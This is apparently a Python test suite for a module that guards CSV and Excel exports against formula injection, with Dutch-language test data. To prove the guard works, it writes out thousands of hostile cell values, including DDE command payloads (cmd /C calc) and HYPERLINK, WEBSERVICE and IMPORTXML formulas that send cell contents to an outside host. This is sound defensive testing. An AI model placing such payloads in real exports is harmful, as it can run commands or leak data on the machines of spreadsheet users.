"""Nothing that somebody typed runs as a formula in a spreadsheet; and what they typed stays readable."""

import csv
import datetime as dt
import itertools
import random
from decimal import Decimal
from io import BytesIO, StringIO
from time import monotonic

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from core.cells import HARMLESS, LONGEST_TEXT, csv_bytes, guarded, plain, xlsx_bytes

HIDDEN = ' \t\r\n"“”\u00a0\u200b\u200e\u2060\ufeff\u00ad\u202e\x00\x01'
TRIGGERS = "=+-@＝＋－＠﹦﹢﹣﹫"
STARTS = (
    "",
    " ",
    "   ",
    "\t",
    "\r",
    "\n",
    "\r\n",
    '"',
    '""',
    '" ',
    "\u200b",
    "\ufeff",
    "\u00a0",
    "\u202e",
    "\x00",
)
SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "﹣", "=-", "-+", "@=", "+=", "--")
TAILS = (
    "1+1",
    "1+1|cmd",
    "cmd|' /C calc'!A0",
    "SUM(A1:A9)",
    "SUM(1+1)*cmd|' /C calc'!A0",
    'HYPERLINK("http://example.org?x="&A1,"klik")',
    'WEBSERVICE("http://example.org")',
    'IMPORTXML(CONCAT("http://example.org",A1),"//a")',
    'DDE("cmd";"/C calc";"a")',
    'A1&""""',
    "2 dagen|cmd",
    "2 SUM(A1)",
    "1E9",
    "\n=1+1",
)
WRAPPED = (
    "tekst;=1+1",
    "tekst,@SUM(A1)",
    "regel\n=1+1",
    "regel\r\n+cmd|'/C calc'!A0",
    "a\t=1",
    'a,"=1+1',
    "a; -1+1|x",
)
HOSTILE = [
    *("".join(parts) for parts in itertools.product(STARTS, SIGNS, TAILS)),
    *WRAPPED,
]
ORDINARY = (
    "-2 dagen",
    "-5",
    "-5,50",
    "-2,5%",
    "+31 6 12345678",
    "-10 euro per week.",
    "Jansen, A.",
    "n.v.t.",
    "a = b",
    "rijbewijs B-E",
    "mail: a@example.org",
    "'s-Gravenhage",
    "1-1-2027",
    "Kees & Co; Bakkerij",
    "Bel, -2 dagen, terug",
    "",
)


def read_csv(content: bytes, delimiter: str = ";") -> list[list[str]]:
    return list(csv.reader(StringIO(content.decode("utf-8-sig"), newline=""), delimiter=delimiter))


def could_run(field: str) -> bool:
    """Whether some program could take the field for a formula; written apart from the code under test."""
    bare = field.lstrip(HIDDEN)
    return bare[:1] in tuple(TRIGGERS) and not HARMLESS.fullmatch(field)


def test_there_are_enough_hostile_texts() -> None:
    assert len(set(HOSTILE)) >= 2_000


def test_the_control_written_naively_they_do_run() -> None:
    assert all(could_run(text) or text in WRAPPED for text in HOSTILE)
    book = openpyxl.Workbook()
    for text in ("=1+1", "=cmd|' /C calc'!A0"):
        book.active.append([text])
    saved = BytesIO()
    book.save(saved)
    kinds = [row[0].data_type for row in openpyxl.load_workbook(saved).active.iter_rows()]
    assert kinds == ["f", "f"]


def test_no_field_of_a_csv_file_begins_as_a_formula() -> None:
    content = csv_bytes(["=kop", "tweede"], ([text, "x"] for text in HOSTILE))
    rows = read_csv(content)
    assert rows[0][0] == "'=kop"
    assert len(rows) == len(HOSTILE) + 1
    assert [row for row in rows if any(could_run(field) for field in row)] == []


@pytest.mark.parametrize("delimiter", [",", "\t"])
def test_nor_when_a_program_expects_another_separator(delimiter: str) -> None:
    rows = read_csv(csv_bytes(["a"], ([text] for text in WRAPPED)), delimiter)
    assert [row for row in rows if any(could_run(field) for field in row)] == []


def test_no_cell_of_a_workbook_is_a_formula_and_each_text_is_whole() -> None:
    page = open_xlsx(xlsx_bytes(["=kop", "tweede"], ([text, "x"] for text in HOSTILE), sheet="Alles"))
    cells = [cell for row in page.iter_rows() for cell in row]
    assert {cell.data_type for cell in cells} == {"s"}
    assert page["A1"].value == "=kop"
    assert page["A1"].quotePrefix


@settings(max_examples=400, deadline=None)
@given(st.text(max_size=60), st.text(alphabet=HIDDEN + TRIGGERS + ";,|!1aA('", max_size=24))
def test_whatever_somebody_types(anything: str, nasty: str) -> None:
    rows = read_csv(csv_bytes(["a", "b"], [[anything, nasty]]))
    assert not any(could_run(field) for row in rows for field in row)
    page = open_xlsx(xlsx_bytes(["a", "b"], [[anything, nasty]], sheet="Alles"))
    assert not any(cell.data_type == "f" for row in page.iter_rows() for cell in row)


@pytest.mark.parametrize("text", ORDINARY)
def test_ordinary_text_stays_as_it_was(text: str) -> None:
    assert guarded(text) == text


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("=1+1", "'=1+1"),
        ("  =1+1", "'  =1+1"),
        ("-2 dagen+A1", "'-2 dagen+A1"),
        ("-2 dagen (max)", "'-2 dagen (max)"),
        ("- appels", "'- appels"),
        ("\tinspringen", "'\tinspringen"),
        ("'=1+1", "'=1+1"),
        ("kop;=1", "kop;'=1"),
        ("a\x00b", "ab"),
    ],
)
def test_the_rule_at_its_edges(text: str, written: str) -> None:
    assert guarded(text) == written


def test_a_csv_file_opens_in_a_dutch_spreadsheet() -> None:
    content = csv_bytes(
        ["Naam", "Uren"], [["Çelik; Zoë", Decimal("-7.50")], [None, 3.5], [True, dt.date(2026, 11, 24)]]
    )
    assert content.startswith(b"\xef\xbb\xbfNaam;Uren\r\n")
    assert read_csv(content)[1:] == [["Çelik; Zoë", "-7,50"], ["", "3,5"], ["ja", "2026-11-24"]]


def open_xlsx(content: bytes) -> openpyxl.worksheet.worksheet.Worksheet:
    return openpyxl.load_workbook(BytesIO(content)).active


def test_a_workbook_keeps_dates_and_numbers_and_can_be_filtered() -> None:
    noon = dt.datetime(2026, 11, 24, 12, 0, 0, 5, tzinfo=dt.UTC)
    page = open_xlsx(
        xlsx_bytes(
            ["Naam", "Datum", "Uren", "Tijd"], [["Zoë", dt.date(2026, 11, 24), -3, noon]], sheet="In/wo:ners"
        )
    )
    name, day, hours, moment = page[2]
    assert (name.value, hours.value) == ("Zoë", -3)
    assert day.value == dt.datetime(2026, 11, 24)
    assert day.number_format == "dd-mm-yyyy"
    assert moment.value == dt.datetime(2026, 11, 24, 13)
    assert page.title == "In wo ners"
    assert page["A1"].font.bold
    assert (page.freeze_panes, page.auto_filter.ref) == ("A2", "A1:D2")


def test_values_that_no_sheet_holds_become_text_or_nothing() -> None:
    assert plain(float("nan")) is None
    assert plain(Decimal("Infinity")) is None
    assert plain(10**15) == "1000000000000000"
    assert plain(dt.date(1899, 12, 31)) == "1899-12-31"
    assert plain("a\ud800\x0bb") == "ab"
    long = plain("=x" * 40_000)
    assert isinstance(long, str)
    assert len(long) < LONGEST_TEXT
    assert long.endswith("(ingekort)")


def test_an_empty_list_is_a_list_with_a_head() -> None:
    assert open_xlsx(xlsx_bytes(["a"], [], sheet="")).title == "Lijst"
    assert read_csv(csv_bytes(["a"], [])) == [["a"]]


def test_a_megabyte_of_anything_takes_no_time() -> None:
    began = monotonic()
    for piece in ("\n", " ", '"', "=", ";", ",=", "-1 ", "\u200b", "a"):
        guarded(piece * (1_000_000 // len(piece)))
    assert monotonic() - began < 10


def test_a_random_heap_of_texts_survives_both_ways() -> None:
    dice = random.Random(7)
    texts = ["".join(dice.choices("=+-@\t\r\n ;,\"'|!ab1", k=dice.randint(1, 12))) for _ in range(2_000)]
    assert not any(could_run(row[0]) for row in read_csv(csv_bytes(["a"], ([text] for text in texts))) if row)
    page = open_xlsx(xlsx_bytes(["a"], ([text] for text in texts), sheet="a"))
    assert not any(cell.data_type == "f" for row in page.iter_rows() for cell in row)
